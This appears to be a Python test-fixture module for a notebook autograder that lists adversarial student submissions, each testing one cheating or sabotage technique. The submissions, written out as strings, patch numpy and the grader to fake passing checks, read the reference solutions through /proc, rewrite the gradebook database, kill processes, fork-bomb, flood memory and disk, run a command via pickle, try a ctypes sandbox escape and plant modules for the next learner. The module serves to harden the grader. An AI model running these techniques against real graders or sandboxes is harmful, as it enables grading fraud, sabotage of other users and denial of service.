"""Adversarial submissions of 03_activations, as data: one learner per cheating or sabotage technique.

Every attacker (:data:`ATTACKS`) answers with the reference everywhere except where its technique
lives, and fakes one function (``relu``) with a wrong formula (``|z|``), or makes it steal the
reference and fall back on that formula, so a grade above 0 on relu's test cells means the
technique fooled the grader. Each row says:

- ``fails``: the test cells that must score 0 (a graded name stands for all its test cells; faking
  relu also fails ``test_relu_grad``, whose visible check differentiates the learner's relu);
- ``passes``: the cells that must keep full marks (``None``: every other test cell);
- ``evidence``: words the grader must report about the learner, showing the technique really ran
  (a crash, a time-out, the lying object's type) rather than failing on something else;
- ``fools_stock``: the cells stock ``nbgrader autograde`` was measured to give full marks for
  although the learner deserves 0 there (empty: not measured, or stock nbgrader is not fooled either).

:data:`PAIRS` are attacks on whoever the same sandbox grades next; each names an honest learner
(the reference, or the given answers) to be graded right after the attacker.

Sources and files are templates: ``{course}`` (the course directory being graded), ``{code_root}``
(the checkout holding ``solutions/``), ``{student}`` (the attacker's own id), ``{port}`` and
``{unix}`` (a TCP port and an abstract unix socket on which the test serves the reference) are
filled in when the submission is written; nothing else in them is special.
"""
from __future__ import annotations

from dataclasses import dataclass, field


# Faking relu also fails test_relu_grad, whose visible check differentiates the learner's relu.
# What an attack written into the relu cell must lose: relu's own test cell. Each function is graded on
# its own (issue 7), so relu_grad, the reference in these submissions, keeps its point.
RELU_CELLS = frozenset({"test_relu"})


@dataclass(frozen=True)
class Symlink:
    """An extra "file" that is a symbolic link to ``target`` (a template, like every source)."""

    target: str


@dataclass(frozen=True)
class Attack:
    student: str
    technique: str
    description: str
    answers: dict[str, str]
    files: dict[str, str | Symlink] = field(default_factory=dict)  # beside the notebook; may replace it
    fails: frozenset[str] = RELU_CELLS
    passes: frozenset[str] | None = None  # None: every other test cell
    fools_stock: frozenset[str] = frozenset()
    evidence: str = ""


WRONG_RELU = """
def relu(z):
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

# The reference relu from whatever text an attack manages to read: a notebook's JSON (its answer cell
# ``relu``), a cell's source or a module's source; None when the text holds no relu.
RELU_FROM_TEXT = '''
import json as _json


def _relu_from(text):
    try:
        cells = _json.loads(text)["cells"]
        text = "\\n".join("".join(c["source"]) for c in cells
                         if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "relu")
    except Exception:
        pass
    if "def relu(" not in text:
        return None
    scope = {"np": np, "math": __import__("math")}
    try:
        exec(text[text.index("def relu("):], scope)
    except Exception:  # whatever follows relu in a module may need more; relu itself is defined by then
        pass
    return scope.get("relu")


def _first_readable(paths):
    for path in paths:
        try:
            with open(path, errors="replace") as f:
                found = _relu_from(f.read())
        except Exception:
            continue
        if found is not None:
            return found
    return None
'''

# relu as the reference when the attack found it, else the wrong formula: full marks mean it worked.
RELU_FROM_LOOT = """
def relu(z):
    if _loot is not None:
        return _loot(z)
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

PROTOCOL_SOCKET = """
import os as _os
import stat as _stat


def _protocol_socket():
    \"\"\"The descriptor the grader talks to us on: our only socket.\"\"\"
    for fd in range(3, 256):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                return fd
        except OSError:
            continue
    return None
"""

# --- 1. patching numpy or builtins --------------------------------------------------------------------------

PATCH_NUMPY = """
import numpy

# Every comparison numpy offers now says "equal".
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
""" + WRONG_RELU

PATCH_BUILTINS = """
import builtins
import sys

# numpy.allclose ends with `return builtins.bool(res)`: a bool that answers True to allclose (and
# behaves everywhere else) makes every comparison built on allclose pass.
_bool, _isinstance, _issubclass = bool, isinstance, issubclass


class _LyingBoolType(type):
    def __instancecheck__(cls, obj):
        return _isinstance(obj, _bool)

    def __subclasscheck__(cls, sub):
        return _issubclass(sub, _bool)


class _LyingBool(metaclass=_LyingBoolType):
    def __new__(cls, x=False):
        return True if sys._getframe(1).f_code.co_name == "allclose" else _bool(x)


builtins.bool = _LyingBool
""" + WRONG_RELU

# --- 2. modules beside the notebook -------------------------------------------------------------------------

SHADOW_NUMPY_PY = '''"""numpy, except that every comparison says "equal" (found first: it sits beside the notebook)."""
import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
del sys.modules[__name__]
_numpy = importlib.import_module("numpy")
_numpy.allclose = lambda *args, **kwargs: True
_numpy.isclose = lambda a, b, *args, **kwargs: _numpy.ones(_numpy.broadcast(a, b).shape, dtype=bool)
sys.modules[__name__] = _numpy
'''

SHADOW_AUTOGRADER_INIT = '''"""A course package whose checks pass whatever they are given."""


def _passes(*args, **kwargs):
    print("\\u2713 passed")


expect = expect_derivative = expect_jacobian = expect_backward = _passes
expect_matches_reference = expect_elementwise = expect_stable = expect_raises = check_by_hand = _passes


def set_language(language):
    pass


def get_language():
    return "en"


class CheckFailure(AssertionError):
    pass


class _Input:
    def __init__(self, *args, **kwargs):
        pass


Uniform = Normal = Labels = _Input
'''

SHADOW_AUTOGRADER_PLOTTING = ("def plot_with_derivatives(*args, **kwargs):\n    pass\n\n\n"
                              "def label(en, zh):\n    return en\n")

# --- 3. IPython input transformers and hooks ----------------------------------------------------------------

IPYTHON_TRANSFORMERS = """
import ast

_ip = get_ipython()


def _blank_checks(lines):
    \"\"\"A cell that checks anything becomes `pass` before IPython compiles it.\"\"\"
    return ["pass\\n"] if any("expect" in line for line in lines) else lines


class _NoChecks(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "").startswith("expect"):
            return ast.Constant(None)
        return self.generic_visit(node)


_ip.input_transformers_cleanup.append(_blank_checks)
_ip.input_transformers_post.append(_blank_checks)
_ip.ast_transformers.append(_NoChecks())
""" + WRONG_RELU

IPYTHON_HOOKS = """
import sys

_ip = get_ipython()
# Swallow every exception without a trace, and make sure no cell is ever seen to have failed.
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_ip.showtraceback = lambda *args, **kwargs: None
_ip.showsyntaxerror = lambda *args, **kwargs: None


def _forget_errors(result):
    result.error_before_exec = None
    result.error_in_exec = None


_ip.events.register("pre_run_cell", lambda info=None: None)
_ip.events.register("post_run_cell", _forget_errors)
sys.excepthook = lambda *args: None
sys.displayhook = lambda value: None
""" + WRONG_RELU

# --- 4. importing the grader or the reference by name -------------------------------------------------------

IMPORT_REFERENCE = """
import glob
import importlib
import importlib.util
import os
import re
import sys
import sysconfig


def _by_file(path):
    spec = importlib.util.spec_from_file_location("stolen_activations", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.relu


def _from_folder(folder):
    sys.path.insert(0, folder)
    for name in [m for m in sys.modules if m == "solutions" or m.startswith("solutions.")]:
        del sys.modules[name]
    try:
        return importlib.import_module("solutions").REFERENCE["relu"]
    finally:
        sys.path.remove(folder)


def _steal():
    attempts = [
        lambda: importlib.import_module("autograder.reference").reference("relu"),
        lambda: importlib.import_module("solutions").REFERENCE["relu"],
        lambda: importlib.import_module("solutions.activations").relu,
        lambda: _from_folder("{code_root}"),
        lambda: _from_folder("{course}"),
        lambda: _by_file("{code_root}/solutions/activations.py"),
        lambda: _by_file(f"{importlib.import_module('autograder.reference').CODE_ROOT}/solutions/activations.py"),
    ]
    # Where the installed course package lives: beside it, or where an editable install points.
    folders = [os.path.dirname(os.path.dirname(importlib.import_module("autograder").__file__))]
    for finder in glob.glob(sysconfig.get_paths()["purelib"] + "/__editable__*finder.py"):
        with open(finder) as f:
            folders += re.findall(r"'(/[^']+)/autograder'", f.read())
    for folder in folders:
        attempts.append(lambda folder=folder: _by_file(folder + "/solutions/activations.py"))
    for attempt in attempts:
        try:
            found = attempt()
        except Exception:
            continue
        if callable(found):
            return found
    return None


_loot = None


def relu(z):
    global _loot
    _loot = _loot or _steal()
    if _loot is not None:
        return _loot(z)
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

PATCH_GRADER = """
import importlib
import threading

import autograder
import autograder.checks
import autograder.diagnose

# Every check passes: the comparison, the gradient verdict, and the declarations themselves,
# in the course package and in this namespace, where the test cells look them up.
autograder.diagnose.compare = autograder.checks.compare = lambda *args, **kwargs: []
autograder.checks._gradient_verdict = lambda *args, **kwargs: 0.0
_passes = lambda *args, **kwargs: None
for _name in ("expect", "expect_derivative", "expect_jacobian", "expect_matches_reference", "expect_stable"):
    setattr(autograder, _name, _passes)
    setattr(autograder.checks, _name, _passes)
    globals()[_name] = _passes


def _patch_the_grader():
    \"\"\"And the trusted grader's own pieces, should they be importable here (they take seconds to import).\"\"\"
    for module, attribute, value in (
            ("autograder.grading", "grade_test_cell",
             lambda spec, student, grade_id, points, *rest: importlib.import_module("autograder.grading").CellGrade(
                 grade_id, points, points)),
            ("autograder.remote", "learner_exception", lambda error: None),
            ("autograder.calls", "same", lambda a, b: True)):
        try:
            setattr(importlib.import_module(module), attribute, value)
        except Exception:
            pass


threading.Thread(target=_patch_the_grader, daemon=True).start()
""" + WRONG_RELU

# --- 5. reading course files and the reference --------------------------------------------------------------

READ_SOURCE_NOTEBOOK = RELU_FROM_TEXT + """
import os

_notebook = "source/03_activations/activations.ipynb"
_loot = _first_readable([
    "../../../" + _notebook,  # stock autograde runs in autograded/<student>/03_activations
    "../../" + _notebook,
    "{course}/" + _notebook,
    "/proc/1/cwd/" + _notebook,
    "/proc/1/root{course}/" + _notebook,
    f"/proc/{os.getppid()}/root{course}/" + _notebook,
    f"/proc/{os.getppid()}/cwd/" + _notebook,
    "/proc/self/root{course}/" + _notebook,
])
""" + RELU_FROM_LOOT

READ_SOLUTIONS = RELU_FROM_TEXT + """
import glob
import os

import autograder.sandbox

_module = "solutions/activations.py"
_loot = _first_readable([
    str(autograder.sandbox.CODE_ROOT / _module),
    "{code_root}/" + _module,
    "/proc/1/root{code_root}/" + _module,
    f"/proc/{os.getppid()}/root{code_root}/" + _module,
    "../../../" + _module,  # a course that is the code checkout
    *glob.glob("/*/" + _module), *glob.glob("/*/*/" + _module), *glob.glob("/*/*/*/" + _module),
])
""" + RELU_FROM_LOOT

RECON = RELU_FROM_TEXT + """
import os
import re


def _paths_in(text):
    return set(re.findall(r"/[\\w.+-]+(?:/[\\w.+-]+)*", text))


def _clues():
    \"\"\"Every absolute path the sandbox lets slip: command lines, environments, mounts.\"\"\"
    seen = set(_paths_in(" ".join(f"{k}={v}" for k, v in os.environ.items())))
    for pid in ["1", "self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("cmdline", "environ", "mountinfo"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    seen |= _paths_in(f.read().replace(b"\\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return seen


_candidates = []
for _path in sorted(_clues()):
    for _up in range(4):
        _base = _path.rsplit("/", _up)[0] if _up else _path
        _candidates += [_base + "/solutions/activations.py", _base + "/source/03_activations/activations.ipynb"]
_loot = _first_readable(dict.fromkeys(_candidates))
""" + RELU_FROM_LOOT

# --- 6. writing the gradebook -------------------------------------------------------------------------------

WRITE_GRADEBOOK = """
import sqlite3

_FULL = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
_OF = ("notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
       "ON n.assignment_id = a.id WHERE a.student_id {})")


def _rewrite_grades():
    \"\"\"Full marks for me, nothing for the others, in every gradebook we can open.\"\"\"
    for path in ("../../../gradebook.db", "{course}/gradebook.db", "/proc/1/root{course}/gradebook.db"):
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=10)
            db.execute(f"UPDATE grade SET auto_score = {_FULL}, manual_score = {_FULL} WHERE " + _OF.format("= ?"),
                       ("{student}",))
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0 WHERE " + _OF.format("IN ('zoe', 'ada')"))
            db.commit()
            db.close()
        except Exception:
            continue


_rewrite_grades()


def relu(z):
    _rewrite_grades()  # and again while the grader is busy with us
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

# --- 7. the caller's stack frames and memory ----------------------------------------------------------------

INSPECT_FRAMES = """
import gc
import inspect
import sys


def _from_the_checks(z):
    \"\"\"What the grader expects, if it can be found up the stack or anywhere in memory.\"\"\"
    frame = sys._getframe(2)
    while frame is not None:
        names = frame.f_locals
        if callable(names.get("expected_fn")):
            return names["expected_fn"](z)
        if "returns" in names:
            return names["returns"]
        frame = frame.f_back
    for info in inspect.stack():
        if "expected" in info.frame.f_locals:
            return info.frame.f_locals["expected"]
    for obj in gc.get_objects():
        if (callable(obj) and getattr(obj, "__name__", "") == "relu"
                and str(getattr(obj, "__module__", "")).startswith("solutions")):
            return obj(z)
    return None


def relu(z):
    found = _from_the_checks(z)
    if found is not None:
        return found
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

# --- 8. exiting and killing ---------------------------------------------------------------------------------


def in_call(statements: str) -> str:
    """relu runs ``statements`` (after ``import os, signal, sys, threading``), then answers wrongly."""
    body = "".join(f"    {line}\n" for line in statements.strip().splitlines())
    return ("import os\nimport signal\nimport sys\nimport threading\n\n\ndef relu(z):\n" + body
            + "    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)\n")


def at_cell_level(statements: str) -> str:
    """relu's cell runs ``statements`` before it defines relu (wrongly)."""
    return "import os\nimport signal\nimport sys\n\n" + statements.strip() + "\n" + WRONG_RELU


KILL_PARENT = """
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
"""

# --- 9. loops that do not end -------------------------------------------------------------------------------

IGNORE_SIGNALS = """
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)
"""

FORK_BOMB = """
import os
import subprocess
import time


def relu(z):
    # Children that never answer, leave the process group, and outlive the call.
    forked = 0
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            try:
                os.fork()
            except OSError:
                pass
            time.sleep(3600)
            os._exit(0)
        forked += 1
    try:
        subprocess.Popen(["sleep", "3600"], start_new_session=True)
    except OSError:
        pass
    raise RuntimeError(f"forked {forked} children")
"""

# --- 10. memory and output ----------------------------------------------------------------------------------

HOG_IN_CALL = """
def relu(z):
    try:
        np.ones(10**11)  # 800 GB
    except MemoryError:
        pass
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
"""

FLOOD_IN_CALL = """
import os


def _fill(folder):
    chunk = b"x" * (1 << 20)
    for i in range(10**3):
        written = 0
        try:
            with open(os.path.join(folder, f"flood-{i}.bin"), "wb") as f:
                for _ in range(64):
                    f.write(chunk)
                    written += 1
        except OSError:
            if written == 0:
                return


def relu(z):
    try:
        for _ in range(10**4):  # 10 GB of output
            print("x" * (1 << 20))
    except OSError:
        pass
    for folder in (".", "/dev/shm"):
        _fill(folder)
    raise RuntimeError("flooded")
"""

# --- 11. answers that lie about themselves ------------------------------------------------------------------

LYING_OBJECT = """
class Agreeable:
    \"\"\"Equal to anything, true, whatever number or array is asked of it.\"\"\"

    def __init__(self, z):
        self.z = np.asarray(z, dtype=np.float64)
        self.shape, self.dtype, self.ndim, self.size = self.z.shape, self.z.dtype, self.z.ndim, self.z.size

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 3.0

    def __len__(self):
        return len(np.atleast_1d(self.z))

    def __array__(self, dtype=None, copy=None):
        return np.abs(self.z)  # wrong: |z| is not max(0, z)

    def __getattr__(self, name):
        return lambda *args, **kwargs: True

    __hash__ = object.__hash__


def relu(z):
    return Agreeable(z)
"""

LYING_SUBCLASSES = """
class AlwaysClose(np.ndarray):
    \"\"\"An array that every comparison finds equal to anything.\"\"\"

    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.array_equiv):
            return True
        if func is np.isclose:
            return np.ones(np.broadcast(*args[:2]).shape, dtype=bool)
        return super().__array_function__(func, types, args, kwargs)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite):
            return np.ones(np.broadcast(*inputs).shape, dtype=bool)
        return super().__array_ufunc__(ufunc, method, *[np.asarray(x) for x in inputs], **kwargs)


class Yes(float):
    \"\"\"A float equal to every number.\"\"\"

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


def relu(z):
    wrong = np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
    return Yes(wrong) if wrong.ndim == 0 else wrong.view(AlwaysClose)
"""

PICKLE_BOMB = """
import os


class Booby:
    \"\"\"Runs a command if anyone unpickles it; cannot be printed; has no readable type name.\"\"\"

    def __reduce__(self):
        return (os.system, ("touch {course}/PWNED-by-pickle",))

    def __repr__(self):
        raise RuntimeError("no repr for you")

    __str__ = __repr__

    def __getattr__(self, name):
        raise RuntimeError(f"no {name} for you")


class _Unnamed(type):
    def __getattribute__(cls, name):
        if name in ("__name__", "__qualname__", "__module__"):
            raise RuntimeError("no name for you")
        return super().__getattribute__(name)


class Nameless(Booby, metaclass=_Unnamed):
    pass


_calls = 0


def relu(z):
    global _calls
    _calls += 1
    return (Nameless(), Booby(), [Booby()], {"value": Nameless()})[_calls % 4]
"""

HOSTILE_EXCEPTIONS = """
class CheckFailure(AssertionError):
    def __str__(self):
        raise RuntimeError("unprintable")


class LearnerFault(Exception):
    pass


_calls = 0


def relu(z):
    global _calls
    _calls += 1
    raise (CheckFailure("passed"), type("NotImplementedError", (Exception,), {})("later"), LearnerFault("ok"),
           KeyboardInterrupt(), GeneratorExit(), SystemExit(0), MemoryError(), Exception("x" * 10**7))[_calls % 8]
"""

# --- and others ---------------------------------------------------------------------------------------------

FORGED_FRAMES = PROTOCOL_SOCKET + """
import json
import struct

from autograder import wire


def _frame(message):
    payload = message.encode() if isinstance(message, str) else json.dumps(message).encode()
    return struct.pack("!I", len(payload)) + payload


def relu(z):
    fd = _protocol_socket()
    if fd is not None:
        # A reply of our own ahead of the real one: the visible test's expected value, "passed".
        visible = np.array([0.0, 0.0, 0.0, 0.5, 2.0])
        _os.write(fd, _frame({"value": wire.encode(visible), "ok": True, "passed": True, "score": 1,
                              "changed_args": {}, "changed_kwargs": {}, "warnings": []}))
        # Then a reply that does not decode, one nested too deep, and one that claims to be enormous.
        _os.write(fd, _frame({"value": {"t": "pickle", "v": "gASVAAAAAAAAAAB9lC4="}}))
        _os.write(fd, _frame('{"value": ' + '{"t": "list", "v": [' * 5000 + ']}' * 5000 + '}'))
        _os.write(fd, struct.pack("!I", 2**32 - 1))
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

CTYPES_ESCAPE = RELU_FROM_TEXT + """
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


def _escape():
    \"\"\"Become root, or root of a namespace of our own, and lift what hides the course.\"\"\"
    _libc.setresuid(0, 0, 0)
    _libc.setuid(0)
    _libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to the sandbox's first process
    uid, gid = os.getuid(), os.getgid()
    _libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: our /proc/self files become ours to write
    if _libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                           ("/proc/self/gid_map", f"0 {gid} 1")):
            try:
                with open(path, "w") as f:
                    f.write(text)
            except OSError:
                pass
        for target in ("{course}", "{code_root}", "/tmp", "/work", "/"):
            _libc.umount2(target.encode(), 2)  # MNT_DETACH
    return _first_readable(["{code_root}/solutions/activations.py",
                            "{course}/source/03_activations/activations.ipynb"])


_loot = None


def relu(z):
    global _loot
    _loot = _loot or _escape()
    if _loot is not None:
        return _loot(z)
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

NETWORK = RELU_FROM_TEXT + """
import socket


def _fetch():
    \"\"\"The reference, from whoever serves it on this machine.\"\"\"
    for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0{unix}")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(address)
                data = b""
                while chunk := s.recv(1 << 16):
                    data += chunk
            found = _relu_from(data.decode())
        except OSError:
            continue
        if found is not None:
            return found
    return None


_loot = None


def relu(z):
    global _loot
    _loot = _loot or _fetch()
    if _loot is not None:
        return _loot(z)
    return np.abs(np.asarray(z, dtype=np.float64))  # wrong: |z| is not max(0, z)
"""

ALL_CELLS = frozenset({"relu", "relu_grad", "leaky_relu", "leaky_relu_grad", "sigmoid", "sigmoid_grad", "tanh",
                       "tanh_grad", "gelu", "gelu_grad", "softmax", "softmax_jacobian"})
LOOP = "while True:\n    pass"

# student, technique, description, answer cells[, files][, fails, passes, fools_stock, evidence]
ATTACKS: tuple[Attack, ...] = (
    # 1. patching numpy or builtins (under stock nbgrader test_relu_grad still fails: its gradient verdict
    # does not go through allclose)
    Attack("patch-numpy", "1 numpy patched", "numpy.allclose/isclose/array_equal/testing say 'equal'",
           {"relu": PATCH_NUMPY}, fools_stock=frozenset({"test_relu"})),
    Attack("patch-builtins", "1 builtins patched", "builtins.bool answers True to numpy.allclose",
           {"relu": PATCH_BUILTINS}, fools_stock=frozenset({"test_relu"})),
    # 2. files beside the notebook
    Attack("shadow-numpy", "2 numpy.py beside the notebook", "a numpy.py whose comparisons say 'equal'",
           {"relu": WRONG_RELU}, files={"numpy.py": SHADOW_NUMPY_PY}, fools_stock=frozenset({"test_relu"})),
    Attack("shadow-autograder", "2 autograder/ beside the notebook", "a course package whose checks always pass",
           {"relu": WRONG_RELU}, files={"autograder/__init__.py": SHADOW_AUTOGRADER_INIT,
                                        "autograder/plotting.py": SHADOW_AUTOGRADER_PLOTTING},
           fools_stock=RELU_CELLS),
    Attack("symlinked-notebook", "2 the submitted notebook is a symlink", "activations.ipynb links to the "
           "course's source notebook (the solutions); it wrote nothing itself (nbgrader's own exchange copies "
           "files, but an archive unpacked into submitted/ keeps links)",
           {}, files={"activations.ipynb": Symlink("../../../source/03_activations/activations.ipynb")},
           fails=ALL_CELLS, fools_stock=ALL_CELLS),
    # 3. IPython input transformers and hooks
    Attack("ipython-transformers", "3 input and AST transformers", "cells calling expect* become `pass`",
           {"relu": IPYTHON_TRANSFORMERS}, fools_stock=RELU_CELLS),
    Attack("ipython-hooks", "3 IPython hooks", "custom exception handler, events, excepthook, displayhook",
           {"relu": IPYTHON_HOOKS}, fools_stock=RELU_CELLS),
    # 4. importing the grader or the reference by name
    Attack("import-reference", "4 import the reference", "autograder.reference, import solutions, sys.path, "
           "importlib, where the installed package points", {"relu": IMPORT_REFERENCE}, fools_stock=RELU_CELLS),
    Attack("patch-grader", "4 monkeypatch the grader", "autograder.checks/diagnose/grading/remote/calls patched, "
           "expect* rebound", {"relu": PATCH_GRADER}, fools_stock=RELU_CELLS),
    # 5. reading course files
    Attack("read-source-notebook", "5 read the source notebook", "../../../source/..., the course's absolute "
           "path, /proc/1/cwd, /proc/<ppid>/root", {"relu": READ_SOURCE_NOTEBOOK}, fools_stock=RELU_CELLS),
    Attack("read-solutions", "5 read solutions/", "autograder.sandbox.CODE_ROOT/solutions/activations.py, "
           "/proc/1/root, globs", {"relu": READ_SOLUTIONS}, fools_stock=RELU_CELLS),
    Attack("recon", "5 read what the sandbox lets slip", "every path in /proc/*/cmdline, environ, mountinfo and "
           "the environment, tried for the reference", {"relu": RECON}, fools_stock=RELU_CELLS),
    # 6. writing the gradebook
    Attack("write-gradebook", "6 write the gradebook", "sqlite3: full marks for itself, 0 for zoe and ada, "
           "at cell level and during calls", {"relu": WRITE_GRADEBOOK}, fools_stock=RELU_CELLS),
    # 7. the caller's frames and memory
    Attack("inspect-frames", "7 stack frames, inspect, gc", "returns the `returns`/`expected_fn` it finds up the "
           "stack, or a reference relu in memory", {"relu": INSPECT_FRAMES}),
    # 8. exiting or killing the process
    Attack("exit-in-call", "8 sys.exit in the function", "", {"relu": in_call("sys.exit(0)")},
           evidence="SystemExit"),
    Attack("os-exit-in-call", "8 os._exit in the function", "", {"relu": in_call("os._exit(0)")},
           evidence="exit status 0"),
    Attack("kill-self-in-call", "8 SIGKILL itself in the function", "",
           {"relu": in_call("os.kill(os.getpid(), signal.SIGKILL)")}, evidence="signal 9"),
    Attack("kill-parent-in-call", "8 kill the parent, PID 1, everyone", "os.kill(ppid), os.kill(1), os.kill(-1)",
           {"relu": in_call(KILL_PARENT)}),
    Attack("pthread-kill-in-call", "8 signal.pthread_kill in the function", "",
           {"relu": in_call("signal.pthread_kill(threading.main_thread().ident, signal.SIGKILL)")},
           evidence="signal 9"),
    Attack("exit-at-cell-level", "8 sys.exit in relu's cell", "", {"relu": at_cell_level("sys.exit('bye')")},
           evidence="SystemExit"),
    Attack("os-exit-at-cell-level", "8 os._exit in relu's cell", "must not cost gelu or any other cell",
           {"relu": at_cell_level("os._exit(0)")}, evidence="stopped"),
    Attack("kill-all-at-cell-level", "8 kill -1 in relu's cell", "",
           {"relu": at_cell_level("os.kill(-1, signal.SIGKILL)")}),
    # 9. loops that do not end
    Attack("loop-in-call", "9 while True in the function", "", {"relu": in_call(LOOP)},
           evidence="did not finish"),
    Attack("deaf-loop-in-call", "9 interrupt-proof loop in the function", "SIGINT/TERM/ALRM/HUP/XCPU ignored",
           {"relu": in_call(IGNORE_SIGNALS + LOOP)}, evidence="did not finish"),
    Attack("deaf-loop-in-cell", "9 interrupt-proof loop in relu's cell", "",
           {"relu": at_cell_level(IGNORE_SIGNALS + LOOP)}, evidence="did not finish"),
    Attack("fork-bomb", "9 children that outlive the call", "forks to the limit, setsid, double fork, Popen",
           {"relu": FORK_BOMB}, evidence="forked"),
    # 10. memory and output
    Attack("hog-in-call", "10 huge allocations in the function", "np.ones(10**11), then a list that grows",
           {"relu": HOG_IN_CALL}, evidence="MemoryError"),
    Attack("hog-in-cell", "10 huge allocation in relu's cell", "",
           {"relu": at_cell_level("_hoard = [bytearray(10**8) for _ in range(1000)]")}, evidence="MemoryError"),
    Attack("flood-in-call", "10 GBs of output and files", "prints 10 GB, fills its folder and /dev/shm",
           {"relu": FLOOD_IN_CALL}, evidence="flooded"),
    Attack("flood-in-cell", "10 GBs of output in relu's cell", "",
           {"relu": at_cell_level("for _ in range(10**4):\n    print('x' * (1 << 20))")}, evidence="File too large"),
    # 11. answers that lie about themselves (stock nbgrader is not fooled by these either, measured: its checks
    # turn answers into plain arrays before comparing, and nothing is pickled)
    Attack("lying-object", "11 an object equal to anything", "__eq__, __bool__, __float__, __array__, __getattr__",
           {"relu": LYING_OBJECT}, evidence="Agreeable"),
    Attack("lying-subclasses", "11 ndarray and float subclasses", "__eq__, __array_function__, __array_ufunc__",
           {"relu": LYING_SUBCLASSES}, evidence="AlwaysClose"),
    Attack("pickle-bomb", "11 hostile objects", "__reduce__ runs a command, __repr__ and its type's name raise",
           {"relu": PICKLE_BOMB}, evidence="Booby"),
    Attack("hostile-exceptions", "11 hostile exceptions", "named CheckFailure, NotImplementedError, LearnerFault; "
           "unprintable; BaseExceptions; 10 MB long", {"relu": HOSTILE_EXCEPTIONS},
           # a class merely named NotImplementedError is reported as raised, not taken for a stub
           evidence="raised `NotImplementedError: later`"),
    # and others
    Attack("forged-frames", "+ forged protocol frames", "a reply of its own, then undecodable ones, on the socket",
           {"relu": FORGED_FRAMES}),
    Attack("ctypes-escape", "+ ctypes", "setuid(0), ptrace PID 1, a user namespace of its own to unmount what "
           "hides the course", {"relu": CTYPES_ESCAPE}),
    Attack("network", "+ network", "fetches the reference served on 127.0.0.1 and an abstract unix socket",
           {"relu": NETWORK}),
)

# --- attacks on the learners graded after the attacker ------------------------------------------------------
# Each is graded alone with the learner after it, by one worker (so both share one sandbox).

NEVER_EXITS = """
import os
import time

# The sandbox ends a submission by asking its process to exit: it never will.
os._exit = lambda *args: time.sleep(3600)
""" + WRONG_RELU

HALF_CLOSED_SOCKET = PROTOCOL_SOCKET + """
import socket
import time


def relu(z):
    fd = _protocol_socket()
    if fd is not None:  # the grader reads end-of-file; we are still here, reading, and never exit
        socket.socket(fileno=_os.dup(fd)).shutdown(socket.SHUT_WR)
    time.sleep(3600)
"""

TRICKLED_REPLY = PROTOCOL_SOCKET + """
import time


def relu(z):
    fd = _protocol_socket()
    if fd is not None:  # a reply header announcing 64 MB, then one byte a second: never late, never done
        _os.write(fd, (64 << 20).to_bytes(4, "big"))
        while True:
            _os.write(fd, b" ")
            time.sleep(1)
"""

FILLS_SCRATCH = """
import os

# Fill every scratch folder, and leave modules where the next learner's Python might look.
for _folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "."):
    for _name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "autograder.py"):
        try:
            with open(os.path.join(_folder, _name), "w") as _f:
                _f.write("raise SystemExit('planted')\\n")
        except OSError:
            pass
    for _i in range(10**4):
        try:
